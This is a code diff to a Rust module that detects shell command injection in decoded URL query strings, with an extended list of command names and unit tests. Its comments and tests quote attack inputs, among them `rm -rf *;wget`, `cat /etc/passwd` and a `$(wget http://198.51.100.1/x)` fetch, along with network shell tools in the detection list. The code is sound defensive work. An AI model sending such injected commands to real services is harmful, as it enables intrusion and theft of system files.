@@ -4,12 +4,17 @@
 //! send the command itself as the query: `/shell?cd+/tmp;rm+-rf+*;wget+http://...`, or a
 //! reconnaissance first, `/shell?uname -a`, often percent-encoded letter by letter. A query of
 //! parameters (`key=value&...`) never starts with a command name followed by a shell argument.
+//!
+//! Command injection into one parameter (Cacti's `poller_id=;touch x`, a ping form's
+//! `ip=127.0.0.1;cat /etc/passwd`) ends the value's command with a separator and starts its
+//! own: [`has_injected_command`].
 
 /// Commands such payloads start with: reconnaissance, moving to a writable directory, fetching
 /// and running a binary.
 const COMMANDS: &[&str] = &[
     "uname", "id", "whoami", "cd", "rm", "cat", "echo", "wget", "curl", "tftp", "busybox", "sh",
-    "bash", "chmod", "nc", "ls", "ps", "ifconfig", "ping", "killall",
+    "bash", "chmod", "nc", "ls", "ps", "ifconfig", "ping", "killall", "touch", "sleep", "nslookup",
+    "ncat", "telnet", "perl", "python", "python3",
 ];
 
 /// Whether the (percent-decoded, `+` read as a space) query starts with a command of
@@ -33,6 +38,55 @@ pub(super) fn is_command_line(query: &str) -> bool {
     separator || shell_argument
 }
 
+/// Whether a parameter value of the (percent-decoded, `+` read as a space) query injects a
+/// command: a shell separator (`;`, `|`, `` ` ``, `$(`) then a command of [`COMMANDS`], either
+/// opening the value (`poller_id=;touch test.txt`, `host=|id`) or followed by a shell-like
+/// argument (`ip=127.0.0.1;cat /etc/passwd`, `q=x|sleep 5`). Lists and prose are not:
+/// `fields=name;id;email` (the separator is inside the value, nothing follows the command),
+/// `q=rock; cat power` (a word, not a path, option, number or file).
+pub(super) fn has_injected_command(query: &str) -> bool {
+    query
+        .split('&')
+        .map(|param| param.split_once('=').map_or(param, |(_, v)| v))
+        .any(injects_command)
+}
+
+/// Whether one parameter value injects a command (see [`has_injected_command`]).
+fn injects_command(value: &str) -> bool {
+    let value = value.trim_start();
+    let mut from = 0;
+    while let Some(off) = value[from..].find([';', '|', '`', '$']) {
+        let at = from + off;
+        let separator = match value.as_bytes()[at..] {
+            [b'$', b'(', ..] => 2,
+            [b'$', ..] => {
+                from = at + 1;
+                continue;
+            }
+            _ => 1,
+        };
+        let (word, after) = first_word(value[at + separator..].trim_start_matches([';', '|', ' ']));
+        if is_command(word) && (at == 0 || shell_argument(after)) {
+            return true;
+        }
+        from = at + separator;
+    }
+    false
+}
+
+/// Whether `after` (what follows a command word) starts with an argument a shell command takes:
+/// an option, a path, a number, a URL or a file name.
+fn shell_argument(after: &str) -> bool {
+    if !after.starts_with(|c: char| c.is_ascii_whitespace()) {
+        return false;
+    }
+    let (arg, _) = first_word(after);
+    arg.starts_with(['-', '/', '~', '$'])
+        || arg.starts_with(|c: char| c.is_ascii_digit())
+        || arg.get(..4).is_some_and(|s| s.eq_ignore_ascii_case("http"))
+        || arg.contains(['.', '/'])
+}
+
 /// The first word of `s` (up to a space or a shell separator) and the rest.
 fn first_word(s: &str) -> (&str, &str) {
     let s = s.trim_start();
@@ -48,7 +102,7 @@ fn is_command(word: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::is_command_line;
+    use super::{has_injected_command, is_command_line};
 
     /// Command lines as router exploits send them, after decoding.
     #[test]
@@ -83,6 +137,40 @@ mod tests {
             "curl tutorial",
         ] {
             assert!(!is_command_line(q), "{q}");
+        }
+    }
+
+    /// A command injected into one parameter, after decoding.
+    #[test]
+    fn a_separator_and_a_command_in_a_value_is_an_injection() {
+        for q in [
+            "action=polldata&poller_id=;touch test.txt&",
+            "host=|id",
+            "ip=127.0.0.1;cat /etc/passwd",
+            "q=x|sleep 5",
+            "dir=$(wget http://198.51.100.1/x)",
+            "name=a`uname -a`",
+            "ip=1.1.1.1; ping -c 3 198.51.100.1",
+        ] {
+            assert!(has_injected_command(q), "{q}");
+        }
+    }
+
+    /// Lists, prose, prices and templates that hold separators or command words.
+    #[test]
+    fn lists_and_prose_with_separators_are_not() {
+        for q in [
+            "fields=name;id;email",
+            "q=cats|dogs",
+            "q=rock; cat power",
+            "sort=price|desc&page=2",
+            "price=$5",
+            "filter=status;ls",
+            "tpl=${name}",
+            "q=id",
+            "",
+        ] {
+            assert!(!has_injected_command(q), "{q}");
         }
     }
 }
